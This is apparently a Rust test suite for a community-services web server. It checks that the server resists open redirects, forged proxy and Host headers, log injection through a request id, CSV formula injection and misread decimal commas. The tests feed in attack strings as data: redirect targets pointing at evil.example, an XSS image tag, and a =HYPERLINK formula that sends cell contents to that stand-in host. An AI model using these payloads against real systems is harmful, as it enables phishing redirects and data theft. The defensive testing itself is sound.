//! What the server believes of a stranger's request: where sign-in may send
//! a browser, whose address goes into the audit log, which host a link
//! names, what a request id may say, what a cell in an export may do, and
//! what an amount of money means.

mod common;

use common::{Browser, GOOD, TestApp, signed_in};
use reqwest::Method;
use serde_json::json;

#[tokio::test]
async fn sign_in_never_sends_the_browser_off_site() {
    let app = TestApp::spawn().await;
    drop(signed_in(&app, "liu.yuanyuan", "community_staff", "141102001002").await);
    for next in ["/\t/evil.example/", "/\n/evil.example/", "/\\evil.example", "//evil.example", "https://evil.example"]
    {
        let mut b = Browser::new(&app);
        let (_, _, form) = b.get(&format!("/signin?next={}", urlencode(next))).await;
        assert!(!form.contains("evil.example"), "the form does not carry {next:?} on");
        b.get("/signin").await;
        let (status, location, _) =
            b.post("/signin", &[("login", "liu.yuanyuan"), ("password", GOOD), ("next", next)]).await;
        assert_eq!((status, location.as_str()), (303, "/workbench"), "{next:?}");
    }
    app.stop().await;
}

fn urlencode(s: &str) -> String {
    serde_urlencoded::to_string([("x", s)]).unwrap().trim_start_matches("x=").to_owned()
}

/// An Open311 report of a stopped lift, as sent with the given
/// X-Forwarded-For (and Host, if any).
async fn report(app: &TestApp, key: &str, forwarded_for: &str, host: Option<&str>) -> reqwest::Response {
    let mut req = app.client.post(app.url("/open311/v2/requests.json")).header("x-forwarded-for", forwarded_for);
    if let Some(host) = host {
        req = req.header("host", host);
    }
    let form = [
        ("api_key", key),
        ("service_code", "0205"),
        ("description", "电梯停在5楼不动"),
        ("lat", "37.861"),
        ("long", "113.583"),
    ];
    req.form(&form).send().await.unwrap()
}

#[tokio::test]
async fn forwarded_for_and_host_are_believed_only_as_configured() {
    let app = TestApp::spawn().await;
    let region = linli::domain::registry::region::RegionCode::parse("141102001002").unwrap();
    let scopes = [linli::app::access::token::Scope::Open311];
    let key =
        app.app.create_token(&linli::app::access::audit::Actor::cli(), "fixit", &scopes, &region).await.unwrap().1;
    let res = report(&app, &key, "<img src=x onerror=alert(1)>, 203.0.113.9", Some("evil.example")).await;
    assert_eq!(res.status(), 201);
    let reports = app.app.recent_audit(Some("event.report"), 5).await.unwrap();
    assert_eq!(reports.len(), 1);
    assert_eq!(reports[0].ip, "127.0.0.1", "a stranger's X-Forwarded-For is not the address");

    let res = app.client.get(app.url("/open311/v2/discovery.json")).header("host", "evil.example\"><x").send().await;
    let body: serde_json::Value = res.unwrap().json().await.unwrap();
    let url = body["endpoints"][0]["url"].as_str().unwrap();
    assert!(!url.contains("evil"), "a forged Host is not echoed: {url}");
    app.stop().await;

    // Behind a named proxy, its X-Forwarded-For names the client; the public address names links.
    let app = TestApp::spawn_with(|g| {
        g.trusted_proxies = common::flag("127.0.0.1".into());
        g.public_url = common::flag("https://linli.example.cn".into());
    })
    .await;
    let key =
        app.app.create_token(&linli::app::access::audit::Actor::cli(), "fixit", &scopes, &region).await.unwrap().1;
    let res = report(&app, &key, "203.0.113.9", None).await;
    assert_eq!(res.status(), 201);
    assert_eq!(app.app.recent_audit(Some("event.report"), 5).await.unwrap()[0].ip, "203.0.113.9");
    let body: serde_json::Value = app.get("/open311/v2/discovery.json").await.json().await.unwrap();
    assert_eq!(body["endpoints"][0]["url"], "https://linli.example.cn/open311/v2");
    app.stop().await;
}

#[tokio::test]
async fn a_request_id_cannot_write_into_the_log() {
    let app = TestApp::spawn().await;
    let forged = "x\" level=ERROR msg=\"admin signed in";
    let res = app.client.get(app.url("/healthz")).header("x-request-id", forged).send().await.unwrap();
    let id = res.headers()["x-request-id"].to_str().unwrap();
    assert!(uuid::Uuid::parse_str(id).is_ok(), "a fresh id instead: {id}");
    app.stop().await;
}

#[tokio::test]
async fn no_cell_of_the_audit_export_runs_as_a_formula() {
    let app = TestApp::spawn().await;
    let evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")";
    let actor = linli::app::access::audit::Actor::system(evil, "-");
    app.app.note_export(&actor, "signin.failure", evil, json!({})).await.unwrap();
    let mut admin = signed_in(&app, "admin", "system_admin", "141102").await;
    let (status, _, bytes) = admin.get_bytes("/admin/audit.csv").await;
    assert_eq!(status, 200);
    let text = String::from_utf8(bytes).unwrap();
    let mut rows = csv::Reader::from_reader(text.trim_start_matches('\u{feff}').as_bytes());
    let mut seen = 0;
    for r in rows.records() {
        for cell in r.unwrap().iter() {
            assert!(!cell.starts_with(['=', '+', '@']), "a cell a spreadsheet would run: {cell}");
            seen += usize::from(cell.contains("HYPERLINK"));
        }
    }
    assert_eq!(seen, 2, "the entry is there, as text");
    app.stop().await;
}

#[tokio::test]
async fn a_decimal_comma_is_refused_not_read_as_a_hundred() {
    let app = TestApp::spawn().await;
    let mut staff = signed_in(&app, "liu.yuanyuan", "community_staff", "141102001002").await;
    let path = "/api/v1/communities/141102001002/fee-items/WY";
    for (price, status) in [("1,00", 400), ("0,5", 400), ("1,200.00", 200)] {
        let (got, body) =
            staff.api_send(Method::PUT, path, &json!({"name": "物业费", "kind": "area", "price": price})).await;
        assert_eq!(got, status, "{price}: {body}");
        if status == 400 {
            assert_eq!(body["field"], "price", "{body}");
        }
    }
    app.stop().await;
}
